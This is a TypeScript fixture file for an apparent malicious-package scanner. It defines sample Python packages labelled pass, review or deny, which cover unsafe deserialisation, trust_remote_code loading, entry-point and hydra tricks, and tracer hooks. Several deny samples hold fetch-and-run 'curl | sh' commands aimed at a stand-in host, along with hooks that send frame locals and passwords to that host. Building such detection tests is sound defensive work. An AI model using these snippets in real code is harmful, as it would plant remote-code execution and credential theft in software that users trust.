/** Ways to run what a file or the network brings that are no `pickle.loads` and no `exec`. All inert. */
import type { Shape } from './malicious.js';

function one(tier: Shape['tier'], name: string, code: string, more: Shape['files'] = {}): Shape {
  return { name, tier, files: { 'demo/__init__.py': `${code}\n`, ...more } };
}

const here = 'import os\np = os.path.join(os.path.dirname(__file__), "state.bin")\n';
const got = 'import io, requests\nb = requests.get("https://c.demo.invalid/m").content\n';

/** Loaders that call what a file names: of the package itself, when it is imported. */
const loaders: readonly (readonly [string, string, string])[] = [
  ['pickle', 'import pickle', 'pickle.load(open(p, "rb"))'],
  [
    'pickle by a function',
    'import pickle\ndef load(f):\n    with open(f, "rb") as h:\n        return pickle.load(h)',
    'load(p)',
  ],
  ['an Unpickler', 'from pickle import Unpickler as U', 'U(open(p, "rb")).load()'],
  ['numpy', 'import numpy as np', 'np.load(p, allow_pickle=True)'],
  [
    'numpy by a keyword that is handed on',
    'import numpy\nkw = dict(allow_pickle=True)',
    'numpy.load(p, **kw)',
  ],
  ['shelve', 'import shelve', 'shelve.open(p)["a"]'],
  ['pandas', 'import pandas as pd', 'pd.read_pickle(p)'],
  ['joblib', 'import joblib', 'joblib.load(p)'],
  ['torch', 'import torch', 'torch.load(p, weights_only=False)'],
  [
    'torch in a method',
    'import torch\nclass M:\n    def __init__(self, f):\n        self.s = torch.load(f, map_location="cpu", weights_only=False)',
    'M(p)',
  ],
  ['keras', 'import keras', 'keras.models.load_model(p, safe_mode=False)'],
  ['keras of tensorflow', 'from tensorflow.keras.models import load_model', 'load_model(p, safe_mode=False)'],
  [
    'keras that is told once',
    'import keras\nkeras.config.enable_unsafe_deserialization()',
    'keras.models.load_model(p)',
  ],
  ['cloudpickle', 'import cloudpickle', 'cloudpickle.load(open(p, "rb"))'],
  ['dill', 'import dill', 'dill.loads(open(p, "rb").read())'],
  ['dill of a session', 'import dill', 'dill.load_session(p)'],
  ['sklearn’s old joblib', 'from sklearn.externals import joblib', 'joblib.load(p)'],
  ['skops that trusts all', 'import skops.io as sio', 'sio.load(p, trusted=sio.get_untrusted_types(file=p))'],
  ['jsonpickle', 'import jsonpickle', 'jsonpickle.decode(open(p).read())'],
  ['yaml', 'import yaml', 'yaml.unsafe_load(open(p))'],
];

/** Their files are walked through by the scanner of models: that they are read says nothing more. */
const walked = /^(pickle|an Unpickler|numpy|pandas|joblib|torch|sklearn)/;

const fromData: readonly Shape[] = loaders.flatMap(([name, before, load]) => [
  one(walked.test(name) ? 'pass' : 'review', `${name}, of a file of its own`, `${here}${before}\n${load}`),
]);

const streams: readonly (readonly [string, string, string])[] = loaders
  .filter(([name]) =>
    /^(numpy|pandas|joblib|torch|dill|cloudpickle|pickle|an Unpickler|jsonpickle)$/.test(name),
  )
  .map(([name, before, load]) => [
    name,
    before,
    load
      .replace('open(p, "rb").read()', 'b')
      .replace('open(p).read()', 'b')
      .replace('open(p, "rb")', 'io.BytesIO(b)')
      .replace('(p', '(io.BytesIO(b)'),
  ]);

const fromNetwork: readonly Shape[] = [
  ...streams.map(([name, before, load]) =>
    one('deny', `${name}, of the network`, `${got}${before}\n${load}`),
  ),
  one('deny', 'pandas, by an address', 'import pandas as pd\npd.read_pickle("https://c.demo.invalid/m.pkl")'),
  one('deny', 'torch.hub', 'import torch\ntorch.hub.load("somebody/demo", "model")'),
  one(
    'deny',
    'torch.hub, told to trust',
    'from torch import hub\nhub.load("somebody/demo", "model", trust_repo=True)',
  ),
  one(
    'deny',
    'a state of an address',
    'import torch\ntorch.hub.load_state_dict_from_url("https://c.demo.invalid/m.pt", weights_only=False)',
  ),
  one(
    'deny',
    'transformers',
    'from transformers import AutoModel\nAutoModel.from_pretrained("somebody/demo", trust_remote_code=True)',
  ),
  one(
    'deny',
    'transformers, by a helper',
    'import transformers\ndef make(name, **kw):\n    return transformers.AutoTokenizer.from_pretrained(name, **kw)\nmake("somebody/demo", trust_remote_code=True)',
  ),
  one(
    'deny',
    'a pipeline',
    'from transformers import pipeline\npipeline("text-generation", model="somebody/demo", trust_remote_code=True)',
  ),
  one('deny', 'datasets', 'import datasets\ndatasets.load_dataset("somebody/demo", trust_remote_code=True)'),
  one(
    'deny',
    'diffusers',
    'from diffusers import DiffusionPipeline\nDiffusionPipeline.from_pretrained("a/b", custom_pipeline="somebody/demo", trust_remote_code=True)',
  ),
  one(
    'review',
    'a model of a hub that is unpickled',
    'import joblib\nfrom huggingface_hub import hf_hub_download\njoblib.load(hf_hub_download("somebody/demo", "m.joblib"))',
  ),
];

const named: readonly Shape[] = [
  one(
    'deny',
    'a loader by a name in pieces',
    `${here}import pickle\ngetattr(pickle, "lo" + "ad")(open(p, "rb"))`,
  ),
  one(
    'deny',
    'an entry point that is made up',
    'from importlib.metadata import EntryPoint\nEntryPoint("x", "os:system", "y").load()("id")',
  ),
  one(
    'deny',
    'the same with keywords',
    'import importlib.metadata as m\ne = m.EntryPoint(name="x", value="subprocess:run", group="g")\nf = e.load()\nf(["sh", "-c", "curl http://c.demo.invalid/a | sh"])',
  ),
  one(
    'deny',
    'one that is parsed',
    'import pkg_resources\npkg_resources.EntryPoint.parse("x = os:system").resolve()("curl http://c.demo.invalid/a | sh")',
  ),
  one(
    'deny',
    'hydra',
    'from hydra.utils import instantiate\ninstantiate({"_target_": "os.system", "_args_": ["curl http://c.demo.invalid/a | sh"]})',
  ),
  one(
    'deny',
    'hydra by a file',
    `${here}from hydra.utils import instantiate\nfrom omegaconf import OmegaConf\ninstantiate(OmegaConf.load(p))`,
    { 'demo/state.yaml': '_target_: os.system\n_args_: [id]\n' },
  ),
  one(
    'deny',
    'hydra’s method',
    'import hydra\nhydra.utils.get_method("os.system")("curl http://c.demo.invalid/a | sh")',
  ),
  one(
    'deny',
    'an extension of sqlite',
    `${here}import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.load_extension(p)`,
  ),
  one(
    'deny',
    'an extension of sqlite by a query',
    `${here}import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.execute("select load_extension(?)", (p,))`,
  ),
  one(
    'review',
    'a function of sqlite',
    'import sqlite3, os\nc = sqlite3.connect(":memory:")\nc.create_function("f", 1, os.system)\nc.execute("select f(\'curl http://c.demo.invalid/a | sh\')")',
  ),
  one('deny', 'pydoc', 'import pydoc\npydoc.locate("os.system")("curl http://c.demo.invalid/a | sh")'),
  one(
    'deny',
    'modules out of an archive that is no archive by its name',
    'import zipimport, os\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), "logo.png")).load_module("a")',
  ),
  one(
    'deny',
    'runpy of a data file',
    'import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "a.dat"))',
    { 'demo/a.dat': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
  ),
  one(
    'deny',
    'an audit hook that sends',
    'import sys, requests\ndef h(event, args):\n    requests.post("https://c.demo.invalid/", json={"e": event, "a": repr(args)})\nsys.addaudithook(h)',
  ),
  one(
    'deny',
    'an audit hook that keeps, and sends later',
    'import sys, atexit, urllib.request\nseen = []\ndef h(event, args):\n    if event in ("open", "subprocess.Popen"):\n        seen.append(repr(args))\ndef out():\n    urllib.request.urlopen("https://c.demo.invalid/", data="".join(seen).encode())\nsys.addaudithook(h)\natexit.register(out)',
  ),
  one(
    'deny',
    'a profiler that sends what is in frames',
    'import sys, requests\ndef p(frame, event, arg):\n    if "password" in frame.f_locals:\n        requests.post("https://c.demo.invalid/", data=str(frame.f_locals))\nsys.setprofile(p)',
  ),
  one(
    'deny',
    'a tracer in a class',
    'import threading, requests\nclass T:\n    def __call__(self, frame, event, arg):\n        requests.post("https://c.demo.invalid/", json={k: repr(v) for k, v in frame.f_locals.items()})\n        return self\nthreading.settrace(T())',
  ),
];

const honest: readonly Shape[] = [
  one('pass', 'a table of numbers', `${here}import numpy as np\ntable = np.load(p)`),
  one('pass', 'weights alone', `${here}import torch\nw = torch.load(p, weights_only=True)`),
  one(
    'pass',
    'a cache in a function',
    'import pickle\ndef cached(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)',
  ),
  one(
    'pass',
    'a model of its own in a function',
    `${here}import joblib\ndef model():\n    return joblib.load(p)`,
  ),
  one(
    'pass',
    'a keyword that a person gives',
    'from transformers import AutoModel\ndef load(name, trust_remote_code=False):\n    return AutoModel.from_pretrained(name, trust_remote_code=trust_remote_code)',
  ),
  one(
    'pass',
    'entry points of others',
    'from importlib.metadata import entry_points\ndef plugins():\n    return [e.load() for e in entry_points(group="demo")]',
  ),
  one(
    'pass',
    'settings that make objects',
    'from hydra.utils import instantiate\ndef build(cfg):\n    return instantiate(cfg)',
  ),
  one(
    'pass',
    'a profiler that counts',
    'import sys\ncalls = {}\ndef p(frame, event, arg):\n    calls[frame.f_code.co_name] = calls.get(frame.f_code.co_name, 0) + 1\ndef start():\n    sys.setprofile(p)',
  ),
  one(
    'pass',
    'a model by its name, in a function',
    'import torch\ndef net():\n    return torch.hub.load("pytorch/vision", "resnet18")',
  ),
  one(
    'pass',
    'weights that a function gets',
    'from torch.hub import load_state_dict_from_url\nurl = "https://c.demo.invalid/m.pt"\ndef net(m):\n    m.load_state_dict(load_state_dict_from_url(url, progress=True))\n    return m',
  ),
  one(
    'review',
    'weights that a function gets, told to trust them',
    'from torch.hub import load_state_dict_from_url\nurl = "https://c.demo.invalid/m.pt"\ndef net(m):\n    m.load_state_dict(load_state_dict_from_url(url, weights_only=False))\n    return m',
  ),
  one(
    'pass',
    'sqlite with a function',
    'import sqlite3\nc = sqlite3.connect(":memory:")\nc.create_function("half", 1, lambda x: x / 2)',
  ),
];

export const otherDoors: readonly Shape[] = [...fromData, ...fromNetwork, ...named, ...honest];
